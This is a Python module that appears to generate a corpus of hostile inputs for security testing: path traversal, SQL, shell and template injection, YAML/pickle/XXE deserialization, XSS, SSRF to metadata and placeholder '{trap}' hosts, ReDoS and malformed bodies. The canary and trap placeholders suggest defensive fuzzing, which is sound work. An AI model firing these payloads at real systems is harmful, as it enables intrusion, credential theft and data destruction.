"""More than five hundred hostile texts by kind. `{canary}` is a file that must never appear, `{trap}` an address nobody may call."""

from __future__ import annotations

from itertools import product

PRODUCT = "9801547"  # 1337 * 7331: what a template that was evaluated would show


def _traversal() -> list[str]:
    targets = ("etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "secrets/keyring", "secrets/token")
    ups = (
        "../",
        "..\\",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%2f",
        "..%252f",
        "%c0%ae%c0%ae/",
        "....//",
        "..;/",
        "..%00/",
        "．．/",
        "/..//",
    )
    found = [up * 8 + target for up, target in product(ups, targets)]
    roots = (
        "/",
        "file:///",
        "//",
        "~/",
        "~root/",
        "\\\\?\\C:\\",
        "/proc/self/root/",
        "./../../",
        "models/../../",
        "\0/",
    )
    return found + [root + target for root, target in product(roots, targets)]


def _sql() -> list[str]:
    tails = (
        "OR 1=1--", "OR 'a'='a", "; DROP TABLE gateway.tokens;--", "UNION SELECT digest FROM gateway.tokens--", "AND pg_sleep(9)--",
        "; COPY (SELECT 1) TO PROGRAM 'touch {canary}';--", "|| (SELECT version())", "; SELECT pg_read_file('/etc/passwd');--",
        "; UPDATE gateway.tokens SET role='admin';--", "AND 1=CAST((SELECT current_user) AS int)--", "; LISTEN x;--",
        "ORDER BY 999--", "LIMIT 1 OFFSET -1--", "/**/OR/**/1=1", "\\'; SELECT 1;--", "; DO $$BEGIN PERFORM 1; END$$;--",
    )  # fmt: skip
    return [f"{head}{quote} {tail}" for head, quote, tail in product(("", "x"), ("'", '"', "')", "$$"), tails)]


def _shell() -> list[str]:
    command = "touch {canary}"
    forms = (
        "; {c}", "| {c}", "|| {c}", "& {c}", "&& {c}", "$({c})", "`{c}`", "\n{c}\n", "\r\n{c}", "'; {c}; '", '"; {c}; "', "-o ProxyCommand={c}",
        "--config=$({c})", "${{IFS}}{c}", "() {{ :; }}; {c}", "%0a{c}", "a;{c};b", "|{c}|", ">{canary}", ">>{canary}", "<({c})", "{{{c},}}",
        "-exec {c} ;", "@reboot {c}", "--eval {c}", "-e {c}", "--rsh={c}", "ext::sh -c {c}", "!{c}", "{c} #",
    )  # fmt: skip
    return [
        f.replace("{canary}", "@@")
        .replace("{c}", command)
        .replace("@@", "{canary}")
        .replace("{{", "{")
        .replace("}}", "}")
        for f in forms
    ]


def _templates() -> list[str]:
    sums = (
        "{{1337*7331}}",
        "${1337*7331}",
        "#{1337*7331}",
        "<%= 1337*7331 %>",
        "{1337*7331}",
        "{% print(1337*7331) %}",
        "@(1337*7331)",
        "*{1337*7331}",
        "[[1337*7331]]",
        "{{=1337*7331}}",
    )
    reach = (
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "{{self._TemplateReference__context}}", "{{cycler.__init__.__globals__.os.popen('touch {canary}').read()}}",
        "{{lipsum.__globals__['os'].system('touch {canary}')}}", "{{request.application.__globals__}}", "{% import os %}{{os.system('touch {canary}')}}", "{{joiner.__init__.__globals__}}",
        "{{namespace.__init__.__globals__}}", "{{(1).__class__.__base__}}", "{{x|attr('__class__')}}", "{{url_for.__globals__}}", "{% for x in range(10**10) %}a{% endfor %}", "{{'a'*10**10}}",
        "{0.__class__.__init__.__globals__}", "%(secret)s", "%s%s%s%n", "{.__init__}", "${jndi:ldap://{trap}/a}", "${env:LTP_TOKEN}", "$LTP_TOKEN", "!ENV LTP_TOKEN", "${oc.env:LTP_DATABASE_URL}",
    )  # fmt: skip
    return [*sums, *reach]


def _code() -> list[str]:
    return [
        "!!python/object/apply:os.system ['touch {canary}']", "!!python/object/new:os.system [touch {canary}]", "!!python/name:os.system", "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {canary}']",
        "&a [*a,*a]", "a: &a [x,x,x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]", "cos\nsystem\n(S'touch {canary}'\ntR.", "\x80\x04\x95", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ0b3VjaCB4lIWUUpQu",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://{trap}/'>]><a>&b;</a>", "__import__('os').system('touch {canary}')",
        "eval('1337*7331')", "exec('import os')", "os.system", "posix:system", "builtins:exec", "subprocess.Popen", "ltp.cli.main:app", "importlib:import_module", "__builtins__", "__class__", "__proto__", "constructor",
        "[$(touch {canary})]", "@/etc/passwd", "+model=@file:///etc/passwd", "hydra.run.dir=/tmp/x", "_target_: os.system", "actor_rollout_ref._target_=os.system", "~trainer", "++trainer.x=1",
        "*)(uid=*))(|(uid=*", '{"$gt": ""}', '{"$where": "sleep(1)"}', "' or count(/*)=1 or 'a'='b", "=cmd|'/c touch {canary}'!A1", "@SUM(1+1)*cmd", "x' && this.password.match(/.*/)//",
    ]  # fmt: skip


def _marks() -> list[str]:
    tags = (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<iframe src=//{trap}>",
        '"><script src=//{trap}></script>',
        "'-alert(1)-'",
        "<a href='data:text/html,x'>",
        "<!--#exec cmd='touch {canary}'-->",
        "<?php system('touch {canary}'); ?>",
    )
    lines = [
        f"x{end}Set-Cookie: a=b"
        for end in ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\u560a", "\x0b", "\x0c", "\x85", "\u2028")
    ]
    return [*tags, *lines]


def _addresses() -> list[str]:
    hosts = (
        "{trap}", "169.254.169.254/latest/meta-data/", "[::1]:22", "0.0.0.0:4222", "localhost:5432", "2130706433", "0x7f000001", "017700000001", "127.1", "127.0.0.1.nip.io",
        "metadata.google.internal", "[::ffff:127.0.0.1]", "[::ffff:a9fe:a9fe]", "127.0.0.1#@example.com", "example.com@127.0.0.1", "①②⑦.⓪.⓪.①", "10.0.0.1", "192.168.1.1", "172.16.0.1", "[fd00::1]",
    )  # fmt: skip
    others = (
        "file:///etc/passwd",
        "gopher://{trap}/_x",
        "dict://{trap}/x",
        "ftp://{trap}/",
        "ldap://{trap}/",
        "unix:/tmp/x",
        "jar:http://{trap}!/",
        "netdoc:///etc/passwd",
        "data:text/plain,x",
        "http://",
        "https://:@/",
        "http://[",
        "//{trap}",
        "http:///{trap}",
        "http:\\\\{trap}",
        "s3://x/../../etc",
        "hf://../../etc/passwd",
        "ssh://-oProxyCommand=touch%20{canary}/",
    )
    return [f"{scheme}://{host}" for scheme, host in product(("http", "https"), hosts)] + list(others)


def _slow() -> list[str]:
    return [
        "a" * 5000 + "!",
        "." * 3000,
        "*." * 1500,
        "ltp" + ".*" * 2000,
        "(" * 2000,
        "(a+)+$" * 50,
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "1" * 4000,
        "-" * 4000 + "x",
        " " * 5000 + "x",
        "\t" * 3000,
        "0." + "9" * 4000,
        "e" * 4000 + "@",
        "/" * 4000,
        "%" * 3000,
        "\\" * 3000,
        "[" * 3000,
        "ltp.>" * 500,
        "a-" * 2000,
        "_" * 100_000,
    ]


def _unicode() -> list[str]:
    marks = [
        "\0",
        "a\0b",
        "\ud800",
        "\udfff\ud800",
        "\ufeff",
        "\u202e",
        "\u200b",
        "\u0000\u0000",
        "\uffff",
        "\U0010ffff",
        "\x7f",
        "\x1b[2J",
        "\x1b]0;x\x07",
        "é" * 3000,
        "e\u0301" * 2000,
        "Ａ",
        "ﬃ",
        "İ",
        "ı",
        "ß",
        "𝟙",
        "٣",
        "\u0300" * 3000,
        "👩‍👩‍👧‍👦" * 500,
        "\r",
        "\n",
        "\x08",
        "\x01",
        "\u2066",
        "\u115f",
    ]
    return marks + [f"{mark}x" for mark in marks] + [f"x{mark}" for mark in marks[:20]]


def _numbers() -> list[str]:
    return [
        "NaN",
        "Infinity",
        "-Infinity",
        "1e309",
        "-1",
        "0",
        "-0",
        "9" * 40,
        "1.0000000000000000000001",
        "0x10",
        "1_000",
        "٣",
        "2" + "0" * 400,
        str(2**63),
        str(-(2**63) - 1),
        str(2**64),
        "1e-400",
        "true",
        "null",
        "undefined",
        "[]",
        "{}",
        "''",
        "[[[[[[[[]]]]]]]]",
        "0e0",
        "1,000",
        "+1",
        "00",
        "1e1000000000",
    ]


def _kept() -> list[str]:
    return [
        f"{where}{name}"
        for where, name in product(
            ("", "_", "../", ".", "-"),
            (
                "token",
                "keyring",
                "postgres",
                "superuser",
                "nats_system",
                "webhook-00000000-0000-0000-0000-000000000000",
                "con",
                "nul",
                "aux.txt",
                "default",
                "admin",
            ),
        )
    ]


KINDS: dict[str, list[str]] = {
    "traversal": _traversal(), "sql": _sql(), "shell": _shell(), "templates": _templates(), "code": _code(), "marks": _marks(),
    "addresses": _addresses(), "slow": _slow(), "unicode": _unicode(), "numbers": _numbers(), "names": _kept(),
}  # fmt: skip
PAYLOADS = [(kind, text) for kind, texts in KINDS.items() for text in dict.fromkeys(texts)]

# Bodies that are wrong as bytes.
BODIES: list[bytes] = [
    b"", b"{", b"[" * 100_000, b'{"a":' * 50_000, b"\xff\xfe\x00", b'"\xed\xa0\x80"', b"null", b"[]", b"1e400", b"NaN", b'{"name": "a", "name": 1}',
    b"{}" * 10_000, b'{"name": ' + b"9" * 100_000 + b"}", b"\x1f\x8b\x08\x00" + b"\0" * 100, b"PK\x03\x04", b"\x80\x04cos\nsystem\n.", b"--x\r\n", b"\0" * 1000, b'{"\\u0000": 1}', b'{"name":"\\ud800"}',
    b'{"__proto__": {"role": "admin"}}', b"<?xml version='1.0'?><a/>", b"a=b&c=d", b'["a"' + b',"a"' * 100_000 + b"]", b'{"name": "' + b"a" * 2_000_000 + b'"}',
]  # fmt: skip
